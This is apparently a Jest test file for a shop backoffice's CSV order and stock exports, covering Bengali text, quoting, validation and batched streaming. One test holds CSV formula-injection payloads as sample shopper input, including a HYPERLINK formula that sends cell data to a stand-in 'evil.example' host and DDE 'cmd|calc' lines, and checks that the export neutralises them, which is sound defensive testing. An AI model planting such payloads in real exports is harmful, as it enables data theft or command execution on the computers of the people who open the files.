import { sql } from 'drizzle-orm';
import { rowsOf } from '../../../src/db/database';
import { orderExportBatches } from '../../../src/modules/exports/order-export';
import { stockExportBatches } from '../../../src/modules/exports/stock-export';
import { drivers, shopForTests } from '../../helpers/build';
import { evaluatedCells, parseCsv } from '../../helpers/csv';
import { placeOrder } from '../../helpers/orders';

const BOM = '\uFEFF';

const records = (text: string) => {
  const [header, ...rows] = parseCsv(text.slice(BOM.length));
  return rows.map((r) => Object.fromEntries((header ?? []).map((h, i) => [h, r[i] ?? ''])));
};

describe.each(drivers)('CSV exports on %s', (driver) => {
  const { t, c } = shopForTests(driver);
  const get = async (url: string, role: 'admin' | 'seller' | 'moderator' = 'moderator') =>
    t.app.inject({ method: 'GET', url, headers: await t.auth(role) });

  it('exports orders with their lines: BOM, Bengali intact, commas, quotes and newlines quoted', async () => {
    const shirt = await c.addStock({
      product_code: 'CSV-1',
      product_name: 'Panjabi, "Eid" cut',
      product_name_bn: 'ঈদের পাঞ্জাবি',
    });
    const saree = await c.addStock({ product_code: 'CSV-2', product_name: 'জামদানি শাড়ি' });
    const placed = await placeOrder(t.app, {
      customer_name: 'রহিমা খাতুন',
      customer_address: 'বাড়ি ১২, রোড ৫,\nধানমন্ডি, ঢাকা',
      customer_phone: '01712345678',
      shipping_id: 1,
      lines: [
        { id_transaction: shirt, quantity: 2 },
        { id_transaction: saree, quantity: 1 },
      ],
    });
    expect(placed.statusCode).toBe(200);
    const invoice = placed.json().invoice_no as number;

    const reply = await get('/api/backoffice/exports/orders.csv?customer=রহিমা');
    expect(reply.statusCode).toBe(200);
    expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(reply.headers['content-disposition']).toMatch(
      /^attachment; filename="poshak-orders-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(reply.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = records(reply.body);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      invoice_no: String(invoice),
      status: 'Pending',
      customer_name: 'রহিমা খাতুন',
      customer_address: 'বাড়ি ১২, রোড ৫,\nধানমন্ডি, ঢাকা',
      product_code: 'CSV-1',
      product_name: 'Panjabi, "Eid" cut',
      quantity: '2',
      unit_price: '1000',
      line_total: '2000',
    });
    expect(rows[1]).toMatchObject({ product_name: 'জামদানি শাড়ি', quantity: '1' });
    expect(rows[0]?.total).toBe(String(placed.json().total));
    // The raw text quotes what needs it, doubling the quotes inside.
    expect(reply.body).toContain('"Panjabi, ""Eid"" cut"');

    const none = await get('/api/backoffice/exports/orders.csv?from=2020-01-01&to=2020-01-02');
    expect(none.body).toBe(`${BOM}${parseCsv(reply.body.slice(1))[0]?.join(',')}\n`);
    const backwards = await get('/api/backoffice/exports/orders.csv?from=2026-02-02&to=2026-02-01');
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().message).toMatch(/^to:/);
    // Ten digits pass the list's pattern but not the database's integers: named, not a 500.
    const past = await get('/api/backoffice/exports/orders.csv?invoices=1,9999999999');
    expect({ status: past.statusCode, message: past.json().message }).toEqual({
      status: 400,
      message: expect.stringMatching(/^invoices:/),
    });
    expect(
      (await t.app.inject({ method: 'GET', url: '/api/backoffice/exports/orders.csv' })).statusCode,
    ).toBe(401);
  });

  it('neutralises every cell and line a spreadsheet would evaluate as a formula, keeping Bengali and the BOM', async () => {
    const item = await c.addStock({ product_code: 'FORMULA-1', product_name: '=cmd|calc!A0' });
    // Each a name or an address as a shopper may send them; tab and line breaks only in addresses.
    const hostile = [
      { customer_name: '=HYPERLINK("http://evil.example/?"&A1,"c")', customer_address: 'Dhaka' },
      { customer_name: "+cmd|' /C calc'!A0", customer_address: '@SUM(1,2)' },
      { customer_name: '-1+1', customer_address: 'Road 4,\n=1+1\r\n+2\r@3' },
      { customer_name: '@SUM(A1:A9)', customer_address: 'Road 5,\n\t=1+1\n  -2+3' },
      { customer_name: 'ফর্মুলা =1+1', customer_address: 'বাড়ি ৭,\n=ঢাকা' },
    ];
    for (const shopper of hostile) {
      const placed = await placeOrder(t.app, {
        ...shopper,
        customer_phone: '01900000007',
        shipping_id: 1,
        lines: [{ id_transaction: item, quantity: 1 }],
      });
      expect(placed.statusCode).toBe(200);
    }
    const reply = await get('/api/backoffice/exports/orders.csv?customer=01900000007');
    expect(reply.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    // A spreadsheet evaluates a cell, or (a program splitting lines) a line of one, that starts so.
    const evaluated = evaluatedCells(reply.body);
    expect(evaluated).toEqual([]);
    const rows = records(reply.body);
    expect(rows.map((r) => [r.customer_name, r.customer_address, r.product_name])).toEqual(
      [...hostile]
        .reverse()
        .map((shopper) => [
          shopper.customer_name.replace(/^(?=\s*[=+\-@])/, "'"),
          shopper.customer_address.replace(/(^|\r\n|\r|\n)(?=\s*[=+\-@\t])/g, "$1'"),
          "'=cmd|calc!A0",
        ]),
    );
    // Ordinary text, Bengali included, and numbers are left as they are.
    expect(rows[0]).toMatchObject({ customer_name: 'ফর্মুলা =1+1', customer_phone: '01900000007' });
    expect(rows[0]?.total).toBe(String(Number(rows[0]?.subtotal) + Number(rows[0]?.delivery_fee)));
  });

  it('exports the stock table’s filter as CSV, newest first, with days added in the file name', async () => {
    await c.addStock({ product_code: 'CSVSTOCK-1', product_name: 'Lungi check', quantity: 2 });
    await c.addStock({ product_code: 'CSVSTOCK-2', product_name: 'Lungi plain', quantity: 40 });
    const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Dhaka' }).format(new Date());
    const reply = await get(
      `/api/backoffice/exports/stock.csv?q=Lungi&from=${today}&to=${today}&sort=price&order=asc`,
      'seller',
    );
    expect(reply.statusCode).toBe(200);
    expect(reply.headers['content-disposition']).toContain(`-${today}-to-${today}.csv`);
    expect(records(reply.body).map((r) => [r.product_code, r.quantity, r.archived])).toEqual([
      ['CSVSTOCK-2', '40', 'no'],
      ['CSVSTOCK-1', '2', 'no'],
    ]);
    const low = await get('/api/backoffice/exports/stock.csv?q=Lungi&low_stock=true');
    expect(records(low.body).map((r) => r.product_code)).toEqual(['CSVSTOCK-1']);
  });

  it('streams a large range a batch at a time: never more than a batch read per fetch', async () => {
    // 1,200 orders written straight into the database (the order route would take minutes).
    const stock = await c.addStock({ product_code: 'BULK-1', product_name: 'Bulk gamchha' });
    const [customer] = rowsOf<{ id_customer: number }>(
      await t.shop.db.execute(
        sql`INSERT INTO customers (customer_name, customer_address, customer_phone, shipping_id)
            VALUES ('Bulk buyer', 'Bogura', '01512345678', 2) RETURNING id_customer`,
      ),
    );
    await t.shop.db.execute(sql`
      INSERT INTO orders (invoice_no, customer_id, shipping_id, shipping_cost, subtotal, total)
      SELECT 500000 + g, ${customer?.id_customer}, 2, 120, 1000, 1120 FROM generate_series(1, 1200) g`);
    await t.shop.db.execute(sql`
      INSERT INTO transactions (operation_type_id, invoice_no, stock_transaction_id, image_id, brand_id, price, quantity)
      SELECT 1, 500000 + g, t.id_transaction, t.image_id, t.brand_id, 1000, 1
      FROM generate_series(1, 1200) g, transactions t WHERE t.id_transaction = ${stock}`);

    const filter = { customer: 'Bulk buyer' };
    const batches = orderExportBatches(t.shop.db, filter, 100);
    const select = jest.spyOn(t.shop.db, 'select');
    try {
      // The first batch costs two reads (100 orders, then their lines), whatever the range.
      const first = await batches.next();
      expect(first.done).toBe(false);
      expect(first.value).toHaveLength(100);
      expect(select).toHaveBeenCalledTimes(2);
      let rows = first.done ? 0 : first.value.length;
      let fetches = 1;
      let largest = rows;
      for await (const batch of batches) {
        fetches++;
        rows += batch.length;
        largest = Math.max(largest, batch.length);
      }
      expect({ rows, fetches, largest }).toEqual({ rows: 1200, fetches: 12, largest: 100 });
      // 12 full batches of orders and their lines, then one read that finds no more.
      expect(select).toHaveBeenCalledTimes(25);
    } finally {
      select.mockRestore();
    }

    // Through the route (batches of EXPORT_BATCH): every order once, newest first.
    const reply = await get(`/api/backoffice/exports/orders.csv?customer=Bulk%20buyer`, 'admin');
    const invoices = records(reply.body).map((r) => Number(r.invoice_no));
    expect(invoices).toHaveLength(1200);
    expect(invoices[0]).toBe(501200);
    expect(invoices[1199]).toBe(500001);
    expect(new Set(invoices).size).toBe(1200);

    // The stock export pages the same way.
    const stockBatches = stockExportBatches(t.shop.db, {}, async () => 5, 2);
    const sizes: number[] = [];
    for await (const batch of stockBatches) sizes.push(batch.length);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(2);
  });
});
